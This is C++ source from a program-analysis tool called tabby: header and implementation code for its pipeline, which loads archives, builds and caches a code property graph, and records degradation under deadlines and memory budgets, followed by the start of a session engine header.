  /// Whole-run wall-clock budget (unlimited by default). Cooperative:
  /// checked per archive during loading and at stage boundaries; once
  /// expired, remaining stages are skipped and the outcome is flagged
  /// deadline_hit (quarantine) or the run fails (strict). A deadline that
  /// never fires leaves every output byte-identical.
  util::Deadline deadline;
  /// Extra budget for the load phase only (--phase-budget load=...),
  /// folded with `deadline` via Deadline::tightened.
  util::Deadline load_deadline;
  /// Optional cancellation flag, observed wherever the deadline is.
  /// Borrowed, must outlive run().
  const util::CancelToken* cancel = nullptr;
  /// Process-wide byte ledger (--mem-budget): threaded into the CPG
  /// builder's payload batches and the cache's snapshot buffers, and shared
  /// with the finder by CLI callers. The ledger is telemetry plus shard caps
  /// derived from its cap(); no stage ever gates on its live total, which
  /// keeps output bit-identical at any --jobs count. Borrowed, may be null
  /// (= ungoverned; zero cost).
  util::MemoryBudget* memory = nullptr;
};

/// The CPG for one pipeline invocation, however it was obtained (cold build
/// or cache snapshot) — the library-level equivalent of one analyze/find/
/// query front half.
struct Outcome {
  graph::GraphDb db;
  cpg::CpgStats stats;
  /// The frozen CSR snapshot, when Options::use_frozen was set and the
  /// freeze (or the cached-frame mmap) succeeded. Traversal, finder and
  /// cypher results against it are byte-identical to store-backed runs on
  /// `db`; absence just means the run degraded to the store representation.
  std::optional<graph::FrozenGraph> frozen;
  /// True when a warm frozen start skipped deserializing the graph store:
  /// `db` is empty and `frozen` holds the graph (db_skipped implies frozen
  /// is present; graph_bytes still carry the verified store blob).
  bool db_skipped = false;
  /// graph::serialize(db), the exact bytes `--store` writes. Present on
  /// every cache run and whenever Options::need_graph_bytes was set.
  std::vector<std::byte> graph_bytes;
  /// The linked program, when Options::need_program was set.
  std::optional<jir::Program> program;
  /// True when the CPG came from a cache snapshot rather than a cold build.
  bool warm = false;
  /// The "cache:" stats line; empty when no cache was used.
  std::string cache_line;
  /// Non-fatal degradations (e.g. a snapshot publish that failed on a
  /// read-only cache directory), one message each. The run still succeeded.
  std::vector<std::string> warnings;
  /// What quarantine mode dropped or skipped; empty on a clean run. Always
  /// empty under the strict policy (strict turns degradation into errors).
  DegradationReport degradation;
};

/// The worker pool behind a --jobs-style count. Returns null for an
/// effective job count of 1: every stage treats a null Executor* as "run
/// inline in index order", which is exactly the serial pipeline. `jobs` <= 0
/// means the hardware default.
std::unique_ptr<util::ThreadPool> make_pool(int jobs);

/// Reads .tjar files and links them into one closed-world program,
/// optionally prefixing the simulated JDK. The error identifies the
/// offending path. Under FailurePolicy::kQuarantine, malformed archives
/// and corrupt class records are recorded into `degradation` (when given)
/// and the surviving classes are linked instead; the call only fails when
/// every user archive is lost. `deadline` bounds the load cooperatively:
/// archives whose decode has not started at expiry are skipped (and
/// recorded / failed per the policy).
util::Result<jir::Program> load_program(const std::vector<std::string>& paths, bool with_jdk,
                                        util::Executor* executor = nullptr,
                                        FailurePolicy policy = FailurePolicy::kStrict,
                                        DegradationReport* degradation = nullptr,
                                        const util::Deadline& deadline = {});

/// The full cache-aware front end shared by analyze/find/query: digest the
/// classpath, warm-start from a snapshot when one matches, otherwise load
/// archives (through per-archive cache fragments when caching), link, build
/// the CPG and publish a new snapshot. Without a cache_dir this is the plain
/// cold pipeline.
util::Result<Outcome> run(const std::vector<std::string>& jar_paths, const Options& options);

/// In-memory variant: build the CPG for an already-linked program (no
/// archives, no cache). The path examples and embedding libraries use.
Outcome run(const jir::Program& program, const Options& options);

}  // namespace tabby::pipeline
