#include "pipeline/pipeline.hpp"

#include <exception>
#include <filesystem>
#include <utility>

#include "corpus/jdk.hpp"
#include "graph/frozen.hpp"
#include "graph/serialize.hpp"
#include "jar/archive.hpp"
#include "obs/obs.hpp"
#include "util/digest.hpp"
#include "util/fs.hpp"

namespace tabby::pipeline {

namespace {

/// Maps a builder-level deadline cut into the run's degradation report.
/// Strict policy turns it into the error the caller returns; quarantine
/// records it and keeps the (structurally valid, incomplete) CPG.
util::Status absorb_build_cut(const cpg::Cpg& cpg, FailurePolicy policy, Outcome& outcome) {
  if (!cpg.deadline_hit) return util::Status::ok_status();
  if (policy != FailurePolicy::kQuarantine) {
    return util::Error{"deadline exceeded during CPG construction"};
  }
  outcome.degradation.deadline_hit = true;
  if (cpg.methods_skipped > 0) {
    outcome.degradation.add("cpg-build", "deadline",
                            std::to_string(cpg.methods_skipped) +
                                " method(s) left unsummarised by the deadline cut");
  }
  return util::Status::ok_status();
}

/// Freezes the built (or decoded) CPG into the immutable CSR when
/// Options::use_frozen asks for it. Fail-soft: a freeze failure (a graph too
/// large for the dense id space, an injected graph.freeze fault) leaves the
/// store-backed db in charge with a warning — never a run failure.
void freeze_outcome(const Options& options, std::uint64_t content_key, Outcome& outcome) {
  if (!options.use_frozen) return;
  obs::Span span("graph.freeze");
  auto frozen = graph::FrozenGraph::freeze(outcome.db, content_key, options.memory);
  if (!frozen.ok()) {
    obs::counter_add("graph.freeze_failures");
    outcome.warnings.push_back("graph freeze failed: " + frozen.error().message +
                               " (continuing with the store-backed graph)");
    return;
  }
  if (span.active()) {
    span.attr("nodes", static_cast<std::uint64_t>(frozen.value().node_count()));
    span.attr("bytes", static_cast<std::uint64_t>(frozen.value().frame().size()));
  }
  outcome.frozen = std::move(frozen.value());
}

/// Cold back half shared by both run() overloads: build the CPG and, when
/// asked, the store bytes.
util::Status build_into(const jir::Program& program, const Options& options,
                        cpg::CpgOptions cpg_options, Outcome& outcome) {
  cpg::Cpg cpg = cpg::build_cpg(program, cpg_options);
  util::Status cut = absorb_build_cut(cpg, options.policy, outcome);
  if (!cut.ok()) return cut;
  outcome.db = std::move(cpg.db);
  outcome.stats = cpg.stats;
  if (options.need_graph_bytes) {
    TABBY_SPAN("graph.serialize");
    outcome.graph_bytes = graph::serialize(outcome.db);
  }
  return util::Status::ok_status();
}

/// Renders the unit label for a partially-salvaged archive: which classes
/// survived out of how many the header declared.
std::string salvage_unit(const std::string& path, const jar::DecodeDegradation& degradation) {
  return path + " [kept " + std::to_string(degradation.classes_kept) + "/" +
         std::to_string(degradation.classes_kept + degradation.classes_dropped) + " classes]";
}

util::Result<Outcome> run_impl(const std::vector<std::string>& jar_paths, const Options& options) {
  obs::Span span("pipeline.run");
  span.attr("archives", static_cast<std::uint64_t>(jar_paths.size()));

  const bool quarantine = options.policy == FailurePolicy::kQuarantine;
  util::Deadline run_deadline = options.deadline;
  run_deadline.bind(options.cancel);
  util::Deadline load_deadline = run_deadline.tightened(options.load_deadline);

  cpg::CpgOptions cpg_options = options.cpg;
  cpg_options.executor = options.executor;
  // The builder polls the run deadline between payload batches (folded with
  // any build deadline the caller set directly) and charges its transient
  // batches to the run ledger.
  cpg_options.deadline = run_deadline.tightened(cpg_options.deadline);
  if (cpg_options.memory == nullptr) cpg_options.memory = options.memory;
  Outcome outcome;

  if (options.cache_dir.empty()) {
    auto program = load_program(jar_paths, options.with_jdk, options.executor, options.policy,
                                &outcome.degradation, load_deadline);
    if (!program.ok()) return program.error();
    if (run_deadline.expired()) {
      if (!quarantine) return util::Error{"deadline exceeded before CPG construction"};
      outcome.degradation.deadline_hit = true;
      if (options.need_program) outcome.program = std::move(program.value());
      return outcome;
    }
    util::Status built = build_into(program.value(), options, cpg_options, outcome);
    if (!built.ok()) return built.error();
    freeze_outcome(options, /*content_key=*/0, outcome);
    if (options.need_program) outcome.program = std::move(program.value());
    return outcome;
  }

  // A cache that cannot be opened is an infrastructure fault, not a broken
  // input unit: fatal under both policies (the caller asked for caching and
  // would otherwise silently lose it).
  auto opened = cache::AnalysisCache::open(options.cache_dir);
  if (!opened.ok()) return opened.error();
  cache::AnalysisCache& cache = opened.value();
  cache.set_memory(options.memory);

  // Classpath digests in link order: the simulated JDK (when included) is
  // part of the analyzed world, so its content is part of the key. Under
  // quarantine an unreadable archive is dropped here (stage "fs-read") so
  // the snapshot key covers exactly the surviving classpath.
  std::vector<std::string> surviving;
  std::vector<std::uint64_t> digests;
  std::optional<util::Error> first_loss;
  if (options.with_jdk) {
    digests.push_back(util::fnv1a(jar::write_archive(corpus::jdk_base_archive())));
  }
  for (const std::string& path : jar_paths) {
    auto digest = cache::AnalysisCache::digest_file(path);
    if (!digest.ok()) {
      util::Error error{path + ": " + digest.error().message};
      if (!quarantine) return error;
      outcome.degradation.add(path, "fs-read", digest.error().message);
      obs::counter_add("pipeline.units_quarantined");
      if (!first_loss.has_value()) first_loss = std::move(error);
      continue;
    }
    surviving.push_back(path);
    digests.push_back(digest.value());
  }
  if (quarantine && !jar_paths.empty() && surviving.empty()) {
    return first_loss.value_or(util::Error{"no archive on the classpath survived quarantine"});
  }
  std::uint64_t key =
      cache::AnalysisCache::snapshot_key(cpg::options_fingerprint(cpg_options), digests);

  // Frozen-first warm start: mmap the cached CSR frame when one matches.
  // The sibling .tsnp stays the source of truth — a frozen hit still
  // requires it intact (stats + the exact store bytes), but lets
  // load_snapshot skip the expensive graph decode. A corrupt frame is a
  // structured degradation, then the store path proceeds as if no frame
  // existed; a frame without an intact snapshot is an orphan and is ignored.
  std::optional<graph::FrozenGraph> warm_frozen;
  if (options.use_frozen) {
    std::string corrupt_reason;
    auto frozen = cache.load_frozen(key, &corrupt_reason);
    if (frozen.has_value() && !frozen->stats().has_value()) {
      // A frame from before the planner-stats section still attaches, but
      // queries over it would plan with fallback estimates. Treat it like a
      // miss: the store path below re-freezes (now with stats) and
      // republishes, upgrading the cache in place.
      outcome.warnings.push_back(
          "cached frozen graph predates cardinality stats (re-freezing to upgrade)");
      frozen.reset();
    }
    if (frozen.has_value()) {
      warm_frozen = std::move(frozen);
    } else if (!corrupt_reason.empty()) {
      outcome.warnings.push_back("cached frozen graph rejected: " + corrupt_reason +
                                 " (falling back to the graph store)");
    }
  }
  std::optional<cache::CachedCpg> snapshot =
      cache.load_snapshot(key, /*need_db=*/!warm_frozen.has_value());
  if (!snapshot.has_value()) warm_frozen.reset();
  if (!snapshot.has_value() || options.need_program) {
    // Load the program through per-archive fragments: unchanged archives
    // warm-start, only changed ones are re-decoded from the original bytes.
    // Under quarantine a fragment/decode failure falls back to a fail-soft
    // re-decode of the raw bytes, so the warm path degrades on exactly the
    // same inputs the cold path would.
    std::vector<jar::Archive> classpath;
    if (options.with_jdk) classpath.push_back(corpus::jdk_base_archive());
    std::size_t user_loaded = 0;
    for (const std::string& path : surviving) {
      if (load_deadline.expired()) {
        if (!quarantine) return util::Error{"deadline exceeded before loading " + path};
        outcome.degradation.add(path, "deadline", "deadline exceeded before loading archive");
        outcome.degradation.deadline_hit = true;
        continue;
      }
      auto loaded = cache.load_archive(path);
      if (loaded.ok()) {
        classpath.push_back(std::move(loaded.value().archive));
        ++user_loaded;
        continue;
      }
      if (!quarantine) return util::Error{path + ": " + loaded.error().message};
      if (!first_loss.has_value()) first_loss = util::Error{path + ": " + loaded.error().message};
      auto bytes = util::read_file(path);
      if (!bytes.ok()) {
        outcome.degradation.add(path, "fs-read", bytes.error().message);
        obs::counter_add("pipeline.units_quarantined");
        continue;
      }
      jar::DecodeDegradation degradation;
      jar::Archive salvaged = jar::read_archive_salvage(bytes.value(), degradation);
      if (!degradation.error.has_value()) {
        // The cached fragment failed but the raw bytes decode cleanly (a
        // transient fault): the archive is recovered intact, nothing to
        // quarantine.
        classpath.push_back(std::move(salvaged));
        ++user_loaded;
        continue;
      }
      if (salvaged.classes.empty()) {
        outcome.degradation.add(path, "archive-decode",
                                degradation.error.has_value() ? degradation.error->message
                                                              : loaded.error().message,
                                degradation.bytes_skipped);
        obs::counter_add("pipeline.units_quarantined");
        continue;
      }
      outcome.degradation.add(salvage_unit(path, degradation), "class-decode",
                              degradation.error->message, degradation.bytes_skipped);
      obs::counter_add("pipeline.units_quarantined");
      classpath.push_back(std::move(salvaged));
      ++user_loaded;
    }
    if (quarantine && !jar_paths.empty() && user_loaded == 0 &&
        !outcome.degradation.deadline_hit && first_loss.has_value()) {
      // Same rule as the cold path: a classpath that is entirely garbage is
      // a fatal error, not a quietly empty analysis.
      return *first_loss;
    }
    jir::Program program = jar::link(classpath);
    if (!snapshot.has_value()) {
      if (run_deadline.expired()) {
        if (!quarantine) return util::Error{"deadline exceeded before CPG construction"};
        outcome.degradation.deadline_hit = true;
        if (options.need_program) outcome.program = std::move(program);
        outcome.cache_line = cache.stats().to_line();
        return outcome;
      }
      cpg::Cpg cpg = cpg::build_cpg(program, cpg_options);
      util::Status cut = absorb_build_cut(cpg, options.policy, outcome);
      if (!cut.ok()) return cut.error();
      outcome.db = std::move(cpg.db);
      outcome.stats = cpg.stats;
      {
        TABBY_SPAN("graph.serialize");
        outcome.graph_bytes = graph::serialize(outcome.db);
      }
      bool snapshot_published = false;
      if (outcome.degradation.degraded()) {
        // Never publish a degraded CPG: the snapshot key describes the
        // on-disk classpath, and a later repaired run with the same bytes
        // must not warm-start from the holes.
        outcome.warnings.push_back("snapshot not published (degraded run)");
      } else {
        auto stored = cache.store_snapshot(key, outcome.stats, outcome.graph_bytes);
        if (!stored.ok()) {
          outcome.warnings.push_back(stored.error().to_string() +
                                     " (continuing without snapshot)");
        } else {
          snapshot_published = true;
        }
      }
      // Freeze after the store publish so the frame is only ever published
      // next to its intact snapshot (a companion-less .tfzn is an orphan the
      // warm path would ignore anyway).
      freeze_outcome(options, key, outcome);
      if (outcome.frozen.has_value() && snapshot_published) {
        auto stored_frozen = cache.store_frozen(key, *outcome.frozen);
        if (!stored_frozen.ok()) {
          outcome.warnings.push_back(stored_frozen.error().to_string() +
                                     " (continuing without frozen snapshot)");
        }
      }
    }
    if (options.need_program) outcome.program = std::move(program);
  }
  if (snapshot.has_value()) {
    outcome.stats = snapshot->stats;
    outcome.graph_bytes = std::move(snapshot->graph_bytes);
    outcome.warm = true;
    if (warm_frozen.has_value()) {
      // Frozen warm start: the mmapped frame is the graph; the store decode
      // was skipped (db stays empty) unless load_snapshot decoded anyway.
      outcome.frozen = std::move(warm_frozen);
      outcome.db_skipped = !snapshot->db_decoded;
    }
    if (snapshot->db_decoded) {
      outcome.db = std::move(snapshot->db);
      // Persistence stores data, not index structures; recreate the standard
      // set so lookups behave exactly as on a freshly built CPG.
      cpg::create_standard_indexes(outcome.db, options.executor);
      if (options.use_frozen && !outcome.frozen.has_value()) {
        // Frozen requested but the frame was absent or corrupt: re-freeze
        // from the decoded store and republish so the cache self-heals.
        freeze_outcome(options, key, outcome);
        if (outcome.frozen.has_value()) {
          auto stored_frozen = cache.store_frozen(key, *outcome.frozen);
          if (!stored_frozen.ok()) {
            outcome.warnings.push_back(stored_frozen.error().to_string() +
                                       " (continuing without frozen snapshot)");
          }
        }
      }
    }
  }
  outcome.cache_line = cache.stats().to_line();
  return outcome;
}

}  // namespace

std::string DegradedUnit::to_string() const {
  std::string out = "degraded: [" + stage + "] " + unit + ": " + error;
  if (bytes_skipped > 0) out += " (" + std::to_string(bytes_skipped) + " byte(s) skipped)";
  return out;
}

std::string DegradationReport::to_string() const {
  std::string out;
  for (const DegradedUnit& u : units) {
    out += u.to_string();
    out += '\n';
  }
  if (deadline_hit) out += "degraded: deadline exceeded; remaining work was skipped\n";
  if (partial_sinks > 0) {
    out += "degraded: " + std::to_string(partial_sinks) + " sink search(es) cut short\n";
  }
  if (frontier_pruned > 0) {
    out += "degraded: memory budget pressure; " + std::to_string(frontier_pruned) +
           " frontier branch(es) pruned\n";
  }
  if (unconfirmed_chains > 0) {
    out += "degraded: " + std::to_string(unconfirmed_chains) +
           " chain(s) left UNCONFIRMED by runtime re-validation\n";
  }
  return out;
}

std::unique_ptr<util::ThreadPool> make_pool(int jobs) {
  unsigned n = jobs > 0 ? static_cast<unsigned>(jobs) : util::ThreadPool::default_jobs();
  if (n <= 1) return nullptr;
  return std::make_unique<util::ThreadPool>(n);
}

util::Result<jir::Program> load_program(const std::vector<std::string>& paths, bool with_jdk,
                                        util::Executor* executor, FailurePolicy policy,
                                        DegradationReport* degradation,
                                        const util::Deadline& deadline) {
  TABBY_SPAN("pipeline.load_program");
  std::vector<jar::Archive> classpath;
  if (with_jdk) classpath.push_back(corpus::jdk_base_archive());
  std::vector<std::filesystem::path> files(paths.begin(), paths.end());

  if (policy == FailurePolicy::kStrict) {
    if (deadline.expired()) return util::Error{"deadline exceeded before classpath load"};
    std::vector<util::Result<jar::Archive>> archives = jar::read_archive_files(files, executor);
    for (std::size_t i = 0; i < archives.size(); ++i) {
      if (!archives[i].ok()) {
        return util::Error{paths[i] + ": " + archives[i].error().message,
                           archives[i].error().location};
      }
      classpath.push_back(std::move(archives[i].value()));
    }
    return jar::link(classpath);
  }

  DegradationReport local;
  DegradationReport& report = degradation != nullptr ? *degradation : local;
  std::vector<jar::SalvagedFile> salvaged = jar::read_archive_files_salvage(files, executor,
                                                                           deadline);
  std::size_t survivors = 0;
  std::optional<util::Error> first_loss;
  std::size_t quarantined = 0;
  for (std::size_t i = 0; i < salvaged.size(); ++i) {
    jar::SalvagedFile& file = salvaged[i];
    if (file.read_error.has_value()) {
      report.add(paths[i], file.deadline_skipped ? "deadline" : "fs-read",
                 file.read_error->message);
      if (file.deadline_skipped) {
        // Deadline skips are degradation, never "garbage input": they must
        // not trip the nothing-survived fatal below.
        report.deadline_hit = true;
      } else {
        ++quarantined;
        if (!first_loss.has_value()) {
          first_loss = util::Error{paths[i] + ": " + file.read_error->message};
        }
      }
      continue;
    }
    if (file.degradation.error.has_value()) {
      if (file.archive.classes.empty()) {
        // Nothing salvageable: header or string-pool corruption.
        report.add(paths[i], "archive-decode", file.degradation.error->message,
                   file.degradation.bytes_skipped);
        ++quarantined;
        if (!first_loss.has_value()) {
          first_loss = util::Error{paths[i] + ": " + file.degradation.error->message};
        }
        continue;
      }
      report.add(salvage_unit(paths[i], file.degradation), "class-decode",
                 file.degradation.error->message, file.degradation.bytes_skipped);
      ++quarantined;
    }
    ++survivors;
    classpath.push_back(std::move(file.archive));
  }
  if (quarantined > 0) obs::counter_add("pipeline.units_quarantined", quarantined);
  if (!paths.empty() && survivors == 0 && first_loss.has_value()) {
    // Quarantine never silently answers "no chains" for a classpath that is
    // entirely garbage — when nothing survives, the run fails like strict.
    return *first_loss;
  }
  return jar::link(classpath);
}

util::Result<Outcome> run(const std::vector<std::string>& jar_paths, const Options& options) {
  // The fail-soft contract is "structured Result, never a crash": stray
  // exceptions (worker-task faults surfaced by Executor::parallel_for,
  // injected pool.task failpoints) become errors here instead of
  // unwinding through the CLI.
  try {
    return run_impl(jar_paths, options);
  } catch (const std::exception& e) {
    return util::Error{std::string("pipeline: unhandled exception: ") + e.what()};
  }
}

Outcome run(const jir::Program& program, const Options& options) {
  obs::Span span("pipeline.run");
  cpg::CpgOptions cpg_options = options.cpg;
  cpg_options.executor = options.executor;
  cpg_options.deadline = options.deadline.tightened(cpg_options.deadline);
  if (cpg_options.memory == nullptr) cpg_options.memory = options.memory;
  Outcome outcome;
  // This overload cannot return an error, so a deadline cut is always
  // absorbed as degradation regardless of policy.
  Options absorbing = options;
  absorbing.policy = FailurePolicy::kQuarantine;
  (void)build_into(program, absorbing, cpg_options, outcome);
  if (options.need_program) outcome.program = program;
  freeze_outcome(options, /*content_key=*/0, outcome);
  return outcome;
}

}  // namespace tabby::pipeline
