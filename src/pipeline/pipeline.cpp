#include "pipeline/pipeline.hpp"

#include <filesystem>
#include <utility>

#include "corpus/jdk.hpp"
#include "graph/serialize.hpp"
#include "jar/archive.hpp"
#include "obs/obs.hpp"
#include "util/digest.hpp"

namespace tabby::pipeline {

namespace {

/// Cold back half shared by both run() overloads: build the CPG and, when
/// asked, the store bytes.
void build_into(const jir::Program& program, const Options& options, cpg::CpgOptions cpg_options,
                Outcome& outcome) {
  cpg::Cpg cpg = cpg::build_cpg(program, cpg_options);
  outcome.db = std::move(cpg.db);
  outcome.stats = cpg.stats;
  if (options.need_graph_bytes) {
    TABBY_SPAN("graph.serialize");
    outcome.graph_bytes = graph::serialize(outcome.db);
  }
}

}  // namespace

std::unique_ptr<util::ThreadPool> make_pool(int jobs) {
  unsigned n = jobs > 0 ? static_cast<unsigned>(jobs) : util::ThreadPool::default_jobs();
  if (n <= 1) return nullptr;
  return std::make_unique<util::ThreadPool>(n);
}

util::Result<jir::Program> load_program(const std::vector<std::string>& paths, bool with_jdk,
                                        util::Executor* executor) {
  TABBY_SPAN("pipeline.load_program");
  std::vector<jar::Archive> classpath;
  if (with_jdk) classpath.push_back(corpus::jdk_base_archive());
  std::vector<std::filesystem::path> files(paths.begin(), paths.end());
  std::vector<util::Result<jar::Archive>> archives = jar::read_archive_files(files, executor);
  for (std::size_t i = 0; i < archives.size(); ++i) {
    if (!archives[i].ok()) {
      return util::Error{paths[i] + ": " + archives[i].error().message,
                         archives[i].error().location};
    }
    classpath.push_back(std::move(archives[i].value()));
  }
  return jar::link(classpath);
}

util::Result<Outcome> run(const std::vector<std::string>& jar_paths, const Options& options) {
  obs::Span span("pipeline.run");
  span.attr("archives", static_cast<std::uint64_t>(jar_paths.size()));

  cpg::CpgOptions cpg_options = options.cpg;
  cpg_options.executor = options.executor;
  Outcome outcome;

  if (options.cache_dir.empty()) {
    auto program = load_program(jar_paths, options.with_jdk, options.executor);
    if (!program.ok()) return program.error();
    build_into(program.value(), options, cpg_options, outcome);
    if (options.need_program) outcome.program = std::move(program.value());
    return outcome;
  }

  auto opened = cache::AnalysisCache::open(options.cache_dir);
  if (!opened.ok()) return opened.error();
  cache::AnalysisCache& cache = opened.value();

  // Classpath digests in link order: the simulated JDK (when included) is
  // part of the analyzed world, so its content is part of the key.
  std::vector<std::uint64_t> digests;
  if (options.with_jdk) {
    digests.push_back(util::fnv1a(jar::write_archive(corpus::jdk_base_archive())));
  }
  for (const std::string& path : jar_paths) {
    auto digest = cache::AnalysisCache::digest_file(path);
    if (!digest.ok()) return util::Error{path + ": " + digest.error().message};
    digests.push_back(digest.value());
  }
  std::uint64_t key =
      cache::AnalysisCache::snapshot_key(cpg::options_fingerprint(cpg_options), digests);

  std::optional<cache::CachedCpg> snapshot = cache.load_snapshot(key);
  if (!snapshot.has_value() || options.need_program) {
    // Load the program through per-archive fragments: unchanged archives
    // warm-start, only changed ones are re-decoded from the original bytes.
    std::vector<jar::Archive> classpath;
    if (options.with_jdk) classpath.push_back(corpus::jdk_base_archive());
    for (const std::string& path : jar_paths) {
      auto loaded = cache.load_archive(path);
      if (!loaded.ok()) return util::Error{path + ": " + loaded.error().message};
      classpath.push_back(std::move(loaded.value().archive));
    }
    jir::Program program = jar::link(classpath);
    if (!snapshot.has_value()) {
      cpg::Cpg cpg = cpg::build_cpg(program, cpg_options);
      outcome.db = std::move(cpg.db);
      outcome.stats = cpg.stats;
      {
        TABBY_SPAN("graph.serialize");
        outcome.graph_bytes = graph::serialize(outcome.db);
      }
      auto stored = cache.store_snapshot(key, outcome.stats, outcome.graph_bytes);
      if (!stored.ok()) {
        outcome.warnings.push_back(stored.error().to_string() +
                                   " (continuing without snapshot)");
      }
    }
    if (options.need_program) outcome.program = std::move(program);
  }
  if (snapshot.has_value()) {
    outcome.db = std::move(snapshot->db);
    outcome.stats = snapshot->stats;
    outcome.graph_bytes = std::move(snapshot->graph_bytes);
    outcome.warm = true;
    // Persistence stores data, not index structures; recreate the standard
    // set so lookups behave exactly as on a freshly built CPG.
    cpg::create_standard_indexes(outcome.db, options.executor);
  }
  outcome.cache_line = cache.stats().to_line();
  return outcome;
}

Outcome run(const jir::Program& program, const Options& options) {
  obs::Span span("pipeline.run");
  cpg::CpgOptions cpg_options = options.cpg;
  cpg_options.executor = options.executor;
  Outcome outcome;
  build_into(program, options, cpg_options, outcome);
  return outcome;
}

}  // namespace tabby::pipeline
