// The session-oriented engine API — the resident counterpart of the one-shot
// pipeline::run facade, and the supported embedding surface for anything that
// issues more than one request against the same classpath (the `tabby serve`
// daemon, the examples, long-lived audit tooling).
//
//   Engine   owns the process-scale machinery a serving deployment shares
//            across requests: the --jobs worker pool, the global
//            util::MemoryBudget, the incremental cache directory, and an LRU
//            of resident analyses keyed by classpath fingerprint (the same
//            digest-folded key the snapshot cache uses). Opening a classpath
//            a second time returns the already-resident Analysis without
//            touching a single archive byte.
//   Analysis one resident classpath: the pipeline Outcome (frozen CSR frame
//            and/or graph store, stats, optional linked program) plus
//            find()/query() entry points that reproduce the CLI's
//            orchestration byte for byte. Handles are shared_ptr: an Analysis
//            evicted from the engine's LRU stays valid for requests already
//            holding it and its frozen frame is unmapped when the last
//            holder drops it.
//   ExecContext  the per-request knobs (wall-clock deadline, phase budgets,
//            failure policy, finder depth/frontier pool, planner toggle) in
//            one struct that open/find/query all consume — the consolidation
//            of the jobs/memory/deadline/policy flags the CLI, examples and
//            daemon previously each re-plumbed through three parallel
//            Options structs.
//
// Admission control (docs/SERVING.md): when the engine's budget is bounded,
// an open whose classpath cannot fit evicts idle least-recently-used
// analyses first and, when that is still not enough, fails with a structured
// over-capacity error (is_over_capacity()) instead of growing past the
// budget — one tenant's 10 GB classpath degrades that tenant, never the
// process. Evictions invoke EngineOptions::on_evict (the Katana
// tsuba/Cache.h residency pattern) so a server can count and log them.
//
// pipeline::run stays available as the one-shot compatibility wrapper; every
// result an Engine produces is byte-identical to the equivalent run() +
// finder/cypher calls at any --jobs count.
#pragma once

#include <chrono>
#include <cstdint>
#include <functional>
#include <list>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include <atomic>

#include "cypher/cypher.hpp"
#include "finder/finder.hpp"
#include "finder/verify.hpp"
#include "pipeline/pipeline.hpp"

namespace tabby::pipeline {

/// Engine-lifetime accumulation of worker-pool supervision events across
/// every --workers find (all analyses). Atomics because concurrent finds on
/// different analyses report into the same ledger; read via Engine::stats().
struct DistTelemetry {
  std::atomic<std::uint64_t> workers_spawned{0};
  std::atomic<std::uint64_t> respawns{0};
  std::atomic<std::uint64_t> crashes{0};
  std::atomic<std::uint64_t> retries{0};
  std::atomic<std::uint64_t> reassignments{0};
  std::atomic<std::uint64_t> heartbeat_misses{0};

  void accumulate(const dist::DistStats& stats) {
    workers_spawned.fetch_add(stats.workers_spawned, std::memory_order_relaxed);
    respawns.fetch_add(stats.respawns, std::memory_order_relaxed);
    crashes.fetch_add(stats.crashes, std::memory_order_relaxed);
    retries.fetch_add(stats.retries, std::memory_order_relaxed);
    reassignments.fetch_add(stats.reassignments, std::memory_order_relaxed);
    heartbeat_misses.fetch_add(stats.heartbeat_misses, std::memory_order_relaxed);
  }
};

/// Per-request execution context: everything that scopes ONE open/find/query
/// request, as opposed to the engine-lifetime machinery (pool, global
/// budget, cache). Durations are budgets, not deadlines: each phase anchors
/// its budget when the phase actually starts, so queueing time in a busy
/// daemon never silently eats a request's allowance.
struct ExecContext {
  /// Whole-request wall-clock deadline (anchored by the caller at request
  /// start; default: never expires). Folded into every phase.
  util::Deadline deadline;
  /// Extra load-phase budget (--phase-budget load=), anchored at open().
  std::optional<std::chrono::milliseconds> load_budget;
  /// Extra finder-phase budget (--phase-budget finder=), anchored at find().
  std::optional<std::chrono::milliseconds> finder_budget;
  /// Optional cancellation flag, observed wherever the deadline is.
  const util::CancelToken* cancel = nullptr;
  /// Per-unit failure handling for open(); find/query run on whatever
  /// survived. The CLI passes kQuarantine, the library default is kStrict.
  FailurePolicy policy = FailurePolicy::kStrict;
  /// Finder: maximum chain length (edge count).
  int max_depth = 12;
  /// Finder: frontier byte pool (--phase-budget finder-mem= / --mem-budget).
  /// 0 = ungoverned. Split deterministically across sink shards.
  std::size_t frontier_byte_pool = 0;
  /// Cypher: use the cost-based planner (--no-plan sets false). Rows are
  /// byte-identical either way.
  bool use_planner = true;
  /// Finder: crash-isolated worker processes (--workers). 0 = in-process
  /// (today's behavior); N > 0 dispatches sink shards to a supervised pool
  /// of forked workers whose failures degrade (PartialSink{WorkerFailure},
  /// exit 3) instead of killing the request — the property that lets the
  /// resident daemon survive a wild pointer inside one tenant's search.
  int workers = 0;
  /// Re-validate every found chain in the runtime VM (--verify). Requires
  /// the analysis to have been opened with OpenOptions::need_program.
  bool verify = false;
  /// Verify: crash-isolated verifier processes (--verify-workers). 0 =
  /// in-process per-chain shards on the engine pool; N > 0 forks a
  /// supervised verifier pool so a VM crash on one chain demotes that chain
  /// (UNCONFIRMED(crash)) instead of killing the request.
  int verify_workers = 0;
  /// Extra verify-phase budget (--phase-budget verify=), anchored when the
  /// verify post-pass starts.
  std::optional<std::chrono::milliseconds> verify_budget;
};

/// Per-open knobs that change what an Analysis materializes (as opposed to
/// how one request runs).
struct OpenOptions {
  /// Keep the linked jir::Program (needed for find --verify / runtime VM).
  bool need_program = false;
  /// Populate Outcome::graph_bytes (the exact `--store` serialization).
  bool need_graph_bytes = false;
  /// Override the engine-level use_frozen default for this open. Every
  /// request — including find --verify, whose alias probes go through
  /// finder::AliasView — produces byte-identical output either way.
  std::optional<bool> use_frozen;
  /// Admission control: when true (the serving default), an open that cannot
  /// fit in the engine's bounded budget — even after evicting idle LRU
  /// analyses — fails with a structured over-capacity error. When false (the
  /// one-shot CLI default), such an open still succeeds but the analysis is
  /// returned non-resident: it lives exactly as long as the caller's handle,
  /// preserving the CLI's degrade-don't-die --mem-budget contract.
  bool require_admission = false;
};

/// Engine-lifetime configuration.
struct EngineOptions {
  /// Worker threads for every parallel stage (make_pool semantics: 0 =
  /// hardware default, 1 = serial). The pool is owned by the engine and
  /// shared by concurrent requests (parallel_for is barrier-per-caller).
  int jobs = 1;
  /// Incremental analysis cache directory; empty = no cache.
  std::string cache_dir;
  /// Global byte budget (0 = ungoverned). Bounds residency: opens that
  /// cannot fit after LRU eviction fail over-capacity. Also threaded into
  /// builder/cache/finder telemetry exactly like pipeline::Options::memory.
  std::size_t memory_budget_bytes = 0;
  /// Maximum resident analyses (0 = unlimited count; bytes still governed).
  std::size_t max_resident = 0;
